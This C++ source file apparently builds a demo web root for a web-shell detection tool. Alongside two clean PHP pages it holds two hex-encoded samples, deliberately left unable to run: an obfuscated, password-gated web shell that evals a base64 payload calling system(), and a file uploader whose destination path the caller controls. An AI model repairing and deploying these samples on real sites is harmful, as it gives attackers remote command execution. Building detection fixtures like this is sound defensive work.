// A small web root for `ascribe shells`: two clean pages, and two of a shell's shape that cannot run, since each ends
// in a bracket that closes nothing. Those are kept in hexadecimal, so that no antivirus deletes a checkout.
#include "cli/demo/story.hpp"

namespace ascribe::demo {
namespace {

constexpr std::string_view kEncoded =
    "3c3f7068700a2f2f204b6570742073686f72742c20616e642062726f6b656e206f6e20707572706f73653a20746865206272"
    "61636b65742061742074686520656e6420636c6f736573206e6f7468696e672c20736f206e6f20696e746572707265746572"
    "2072756e73207468697320706167652e0a2470617274203d2027656427202e20276f6327202e202765645f34366573616227"
    "3b0a246f70656e203d20737472726576282470617274293b0a2474657874203d20246f70656e2827615759674b47316b4e53"
    "676b58314250553152624a32736e58536b67505430674a7a566c596d55794d6a6b305a574e6b4d4755775a6a41345a574669"
    "4e7a59354d47517959545a6c5a5459354a796b6763336c7a644756744b435266554539545646736e597964644b54733d2729"
    "3b0a6576616c282474657874293b0a290a";
constexpr std::string_view kUploader =
    "3c3f7068700a69662028697373657428245f46494c45535b2766275d2929206d6f76655f75706c6f616465645f66696c6528"
    "245f46494c45535b2766275d5b27746d705f6e616d65275d2c20245f4745545b2764275d202e20272f27202e20245f46494c"
    "45535b2766275d5b276e616d65275d293b0a290a";

std::string from_hex(std::string_view digits) {
    constexpr std::string_view kDigits = "0123456789abcdef";
    std::string bytes;
    for (std::size_t i = 0; i + 1 < digits.size(); i += 2)
        bytes += static_cast<char>(kDigits.find(digits[i]) << 4 | kDigits.find(digits[i + 1]));
    return bytes;
}

}  // namespace

std::vector<File> pages() {
    return {{"index.php", "<?php require 'lib/greet.php'; echo greet($_GET['name'] ?? 'visitor'); ?>\n"},
            {"lib/greet.php", "<?php function greet($name) { return 'Hello, ' . htmlspecialchars($name); } ?>\n"},
            {"upload/photo.php", from_hex(kEncoded)},
            {"upload/take.php", from_hex(kUploader)}};
}

}  // namespace ascribe::demo
